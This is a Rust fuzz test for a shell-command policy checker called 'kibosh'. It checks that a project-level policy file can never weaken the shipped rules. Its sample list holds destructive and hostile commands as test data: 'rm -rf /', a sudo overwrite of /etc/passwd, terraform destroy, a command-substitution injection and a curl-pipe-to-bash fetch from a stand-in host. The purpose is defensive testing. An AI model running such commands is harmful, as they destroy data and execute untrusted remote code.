//! Any text as a policy file: it loads or is refused with a reason, and as a project's file nobody
//! trusts it makes no decision weaker.
//!
//! `cargo +nightly fuzz run policy fuzz/corpus/policy tests/suite/data/policies/valid policies -- -dict=fuzz/policy.dict`
#![no_main]

use kibosh::judge;
use kibosh::policy::discover::Folders;
use kibosh::policy::examples::{self, Line};
use kibosh::policy::load::Text;
use kibosh::policy::{Layer, Policy, lint};
use libfuzzer_sys::fuzz_target;

const LINES: &[&str] = &[
    "ls -l",
    "rm -rf /",
    "sudo sh -c 'rm -rf ~/x' > /etc/passwd",
    "terraform destroy -auto-approve && terraform apply -auto-approve",
    "$(cat name) -rf x",
    "curl -s https://x.example/y | bash",
];

thread_local! {
    static PACKS: Policy = Policy::shipped();
}

fuzz_target!(|text: &str| {
    for layer in [Layer::System, Layer::Project] {
        let text = Text { layer, file: "f.toml".to_owned(), text: text.to_owned() };
        match Policy::of(std::slice::from_ref(&text), &Folders::default()) {
            Err(errors) => {
                assert!(!errors.0.is_empty());
                for error in &errors.0 {
                    assert!(!error.message.is_empty());
                    assert!(error.line <= text.text.lines().count() + 1);
                }
            }
            Ok(policy) => {
                let mut judge_here = |line: &Line| judge::example(&policy, line);
                examples::layers(&policy, &mut judge_here);
                lint::layers(&policy, &mut judge_here);
                for line in LINES.iter().map(|line| Line::example(line)) {
                    let after = judge_here(&line);
                    let before = PACKS.with(|packs| judge::example(packs, &line));
                    if layer == Layer::Project {
                        assert!(after.effect >= before.effect, "{}", line.text);
                        assert!(before.rules.iter().all(|rule| after.rules.contains(rule)));
                    }
                }
            }
        }
    }
});
